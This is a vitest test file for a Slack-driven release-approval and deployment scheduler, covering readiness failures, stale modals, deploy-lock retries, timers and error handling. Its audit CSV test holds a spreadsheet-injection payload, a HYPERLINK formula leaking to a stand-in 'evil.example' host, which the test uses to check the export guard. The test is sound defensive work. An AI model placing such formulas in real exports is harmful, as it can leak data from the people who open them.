/**
 * Tests for the review fixes: failed readiness unschedules a scheduled release, stale reason modals are refused,
 * deploy-lock retries, the CSV formula guard, in-process timer promotion, and the Slack error boundary.
 */
import { randomBytes } from 'node:crypto';
import { Writable } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { appendAudit } from '../../src/db/audit.repo';
import { createLogger } from '../../src/logger';
import type { JobName } from '../../src/queue/jobs';
import { Timers } from '../../src/queue/timers';
import type { SlackMessage } from '../../src/fake-slack';
import type { Harness } from '../support/harness';
import {
  API_TOKEN,
  CHANNELS,
  TIMER_POLICY,
  U,
  approveAndWait,
  approveToScheduling,
  clickOnOldCard,
  findCard,
  getRelease,
  offsetToBeforeSlot,
  openModal,
  purgeRedisPrefix,
  releaseState,
  releaseInScheduling,
  requestRelease,
  responsesTo,
  startHarness,
  submitEdit,
  textOf,
  waitForCard,
} from '../support/harness';
import { auditActions, policyWith, scheduledRelease, waitForThread } from '../support/deploy-fixtures';

let h: Harness | null = null;
afterEach(async () => {
  await h?.close();
  h = null;
});

function row(t: Harness, id: number): { state: string; scheduled_at: number | null } {
  return t.gl.database.sqlite.prepare('select state, scheduled_at from releases where id = ?').get(id) as { state: string; scheduled_at: number | null };
}

/** A minimal RFC 4180 reader: rows of cells, quotes and doubled quotes handled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cell = '';
  let cells: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      cells.push(cell);
      cell = '';
    } else if (c === '\n') {
      cells.push(cell);
      rows.push(cells);
      cells = [];
      cell = '';
    } else cell += c;
  }
  if (cell || cells.length) rows.push([...cells, cell]);
  return rows;
}

describe('failed readiness after scheduling', () => {
  it('a failed CI check sends a scheduled release back to sign-off, frees its slot, and Start deploy is refused', async () => {
    const t = await startHarness({ policy: policyWith({}) });
    h = t;
    const a = await scheduledRelease(t);
    expect(row(t, a.id)).toMatchObject({ state: 'scheduled' });
    expect(row(t, a.id).scheduled_at).not.toBeNull();
    // the card as it was while scheduled (a stale copy someone may still click on)
    const scheduledCard = structuredClone(findCard(t, CHANNELS.payments, a.id)) as SlackMessage;
    expect(textOf(scheduledCard)).toContain('Start deploy');

    const res = await t.api('POST', `/api/v1/releases/${a.id}/checks`, { criterion: 'tests', status: 'failed', url: 'https://ci.example/run/9' });
    expect(res.status).toBe(200);
    expect(row(t, a.id)).toEqual({ state: 'signoff', scheduled_at: null });
    const unscheduled = (await auditActions(t, a.id)).filter((e) => e.action === 'release.unscheduled');
    expect(unscheduled).toHaveLength(1);
    expect(unscheduled[0]?.details).toMatchObject({ reason: 'readiness', criterion: 'tests', status: 'failed' });

    // the card shows sign-off again and no longer offers Start deploy
    const card = await waitForCard(t, CHANNELS.payments, a.id, (c) => c.includes(':arrow_forward: *Sign-off*'));
    expect(textOf(card)).not.toContain('Start deploy');
    expect(textOf(card)).not.toContain('Deploy slot');

    // Start deploy from the stale copy of the card is refused and changes nothing
    const before = await releaseState(t, a.id);
    await clickOnOldCard(t, U.ops, scheduledCard, 'Start deploy');
    await t.fake.waitFor(() => responsesTo(t, U.ops, 'not scheduled: there is nothing to start').length > 0 || undefined, { description: 'the refusal' });
    expect(await releaseState(t, a.id)).toEqual(before);
    expect((await auditActions(t, a.id)).some((e) => e.action === 'deploy.started')).toBe(false);
  }, 60_000);
});

describe('stale reason modals', () => {
  it('Request changes opened before an edit is refused on submit with "was edited after you opened this form"', async () => {
    const t = await startHarness();
    h = t;
    const { id, card } = await requestRelease(t);
    const at = { channel: card.channel, ts: card.ts };
    await approveAndWait(t, U.reviewer, at);
    await t.driver.clickButton(U.qa, at, 'Request changes');
    const modal = await openModal(t, U.qa, 'release.reason');

    // meanwhile the requester edits the changelog
    const edit = await submitEdit(t, U.requester, id, { Changelog: 'Caches the basket between steps. Also fixes the totals.' });
    expect(edit.res.outcome.outcome).toBe('closed');
    await expect.poll(async () => (await getRelease(t, id)).changelog).toContain('fixes the totals');
    const before = await releaseState(t, id);

    const res = await t.driver.submitView(U.qa, modal.id, { Reason: 'Needs load-test results' });
    expect(res.outcome.outcome).toBe('errors');
    expect(JSON.stringify(res.body)).toContain('was edited after you opened this form');

    expect(await releaseState(t, id)).toEqual(before);
    const audit = (await getRelease(t, id)).audit;
    const denied = audit.filter((e) => e.action === 'approval.denied');
    expect(denied).toHaveLength(1);
    expect(denied[0]?.details).toMatchObject({ reason: 'stale_view', attempted: 'request_changes' });
    expect(audit.some((e) => e.action === 'release.changes_requested' || e.action === 'release.rejected')).toBe(false);
  }, 30_000);
});

describe('deploy lock retry', () => {
  it('a slot that arrives while the service deploys waits, keeps a re-derivable -rN retry job, and starts once the lock is gone', async () => {
    const { offset, slot } = offsetToBeforeSlot(12_000);
    const t = await startHarness({ policy: TIMER_POLICY, clockOffsetMs: offset });
    h = t;
    const lock = await requestRelease(t, U.requester, { Version: '1.4.1' });
    const b = await requestRelease(t);
    await approveToScheduling(t, b.id, b.card.ts);
    await t.driver.clickButton(U.ops, { channel: CHANNELS.payments, ts: b.card.ts }, 'Schedule');
    const modal = await openModal(t, U.ops, 'release.schedule');
    expect((await t.driver.submitView(U.ops, modal.id, { Slot: String(slot) })).outcome.outcome).toBe('closed');
    await waitForCard(t, CHANNELS.payments, b.id, (c) => c.includes('Scheduled'));
    // the first release is deploying the same service to the same environment (set directly: the lock is under test)
    t.gl.database.sqlite.prepare("update releases set state = 'deploying' where id = ?").run(lock.id);

    const at = { channel: CHANNELS.payments, ts: b.card.ts };
    await waitForThread(t, at, `REL-${lock.id} is still deploying payments-api to production`, 30_000);
    expect(row(t, b.id).state).toBe('scheduled');
    const retryOf = async () => (await t.gl.timers.pending()).find((j) => j.name === 'window-start' && j.id.startsWith(`release-${b.id}-window-start-${slot}-r`));
    await expect.poll(retryOf, { timeout: 5_000 }).toBeDefined();
    const retry = await retryOf();
    expect(retry?.id).toMatch(/-r\d+$/);

    // the first deploy succeeds: the lock is gone
    const done = await t.api('POST', `/api/v1/releases/${lock.id}/deployments`, { status: 'succeeded' });
    expect(done.status).toBe(200);
    expect(row(t, lock.id).state).toBe('monitoring');

    // the retry fires (promoted instead of waiting a minute) and starts the second deploy
    const job = await t.gl.timers.queue.getJob(retry?.id ?? '');
    expect(job).toBeDefined();
    await job?.promote();
    await waitForCard(t, CHANNELS.payments, b.id, (c) => c.includes('Deploying'));
    expect(row(t, b.id).state).toBe('deploying');
    expect((await auditActions(t, b.id)).filter((e) => e.action === 'deploy.window_opened')).toHaveLength(1);
  }, 90_000);
});

describe('audit CSV', () => {
  it('guards formula cells: a cell a spreadsheet would evaluate is prefixed with an apostrophe', async () => {
    const t = await startHarness();
    h = t;
    const { id, card } = await requestRelease(t);
    const formula = '=HYPERLINK("https://evil.example/?leak=1","Click me")';
    await t.driver.clickButton(U.reviewer, { channel: card.channel, ts: card.ts }, 'Reject');
    const modal = await openModal(t, U.reviewer, 'release.reason');
    expect((await t.driver.submitView(U.reviewer, modal.id, { Reason: formula })).outcome.outcome).toBe('closed');
    await expect.poll(async () => (await getRelease(t, id)).state).toBe('rejected');
    // Reasons live inside the JSON details cell (which starts with `{`); an actor is the other free-text column a
    // formula could start. Record one the way any use case does, so the guard itself is exercised.
    appendAudit(t.gl.database.db, { at: Date.now(), releaseId: id, actor: formula, action: 'test.formula', details: { reason: formula } });

    const res = await fetch(`${t.gl.url}/api/v1/audit?format=csv`, { headers: { authorization: `Bearer ${API_TOKEN}` } });
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(['id', 'at', 'release', 'actor', 'action', 'details', 'hash']);
    // no cell of any row starts with a formula character
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const rejected = rows.find((r) => r[4] === 'release.rejected');
    expect(rejected?.[5]).toContain(formula.replace(/"/g, '\\"')); // the reason is kept, inside the JSON
    const guarded = rows.find((r) => r[4] === 'test.formula');
    expect(guarded?.[3]).toBe(`'${formula}`);
  }, 30_000);
});

describe('timer precision (in-process promotion)', () => {
  it('a delayed job due within the lookahead is promoted by our own timer, without the BullMQ worker fetching', async () => {
    const sink = new Writable({ write: (_c, _e, cb) => cb() });
    let release: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    const ran: { name: JobName; at: number }[] = [];
    const timers = new Timers({
      redisUrl: process.env.REDIS_URL ?? 'redis://127.0.0.1:6379',
      prefix: `gl-test-${randomBytes(4).toString('hex')}`,
      logger: createLogger({ level: 'silent', destination: sink }),
      reconcileEveryMs: 60_000,
      concurrency: 1,
      deriveAll: () => Promise.resolve([]),
      deriveRelease: () => Promise.resolve([]),
      process: async (name) => {
        ran.push({ name, at: Date.now() });
        // The first job holds the only worker slot, so BullMQ's worker fetches nothing (and so promotes no delayed
        // job) until the gate opens: anything that leaves `delayed` meanwhile was promoted by our in-process timer.
        if (name === 'review-open') await gate;
      },
    });
    try {
      await timers.start();
      await timers.add({ name: 'review-open', payload: { releaseId: 1 }, at: Date.now() });
      await expect.poll(() => ran.length, { timeout: 5_000 }).toBe(1);

      // `add` arms a job due within the lookahead at once; the lookahead sweep arms one added behind our back
      const dueSoon = { name: 'window-start' as const, payload: { releaseId: 2, at: Date.now() + 1_500 }, at: Date.now() + 1_500 };
      await timers.add(dueSoon);
      await timers.queue.add('window-start', { releaseId: 3, at: 0 }, { jobId: 'behind-our-back', delay: 2_500 });
      const first = await timers.queue.getJob('release-2-window-start-' + String(dueSoon.payload.at));
      const second = await timers.queue.getJob('behind-our-back');
      expect(await first?.getState()).toBe('delayed');
      expect(await second?.getState()).toBe('delayed');

      await expect.poll(async () => first?.getState(), { timeout: 4_000, interval: 100 }).toBe('waiting');
      await expect.poll(async () => second?.getState(), { timeout: 5_000, interval: 100 }).toBe('waiting');
      expect(ran.map((r) => r.name)).toEqual(['review-open']); // the worker is still busy: nobody else moved them

      release();
      await expect.poll(() => ran.length, { timeout: 5_000 }).toBe(3);
    } finally {
      release();
      const prefix = timers.queue.opts.prefix ?? '';
      await timers.close();
      await purgeRedisPrefix(prefix);
    }
  }, 30_000);
});

describe('the Slack error boundary', () => {
  it('a click on the card of a release deleted from SQLite gets a private warning instead of silence', async () => {
    const t = await startHarness();
    h = t;
    const { id, card } = await releaseInScheduling(t);
    const sqlite = t.gl.database.sqlite;
    sqlite.pragma('foreign_keys = OFF');
    sqlite.prepare('delete from releases where id = ?').run(id);
    sqlite.pragma('foreign_keys = ON');

    const res = await t.driver.clickButton(U.ops, card, 'Schedule');
    expect(res.status).toBe(200);
    const [warning] = await t.fake.waitFor(() => {
      const got = responsesTo(t, U.ops, ':warning:');
      return got.length ? got : undefined;
    }, { description: 'the private warning' });
    expect(warning).toContain(`REL-${id} was not found`);
    expect(t.fake.openViews(U.ops).filter((v) => v.callback_id === 'release.schedule')).toHaveLength(0);
  }, 30_000);
});
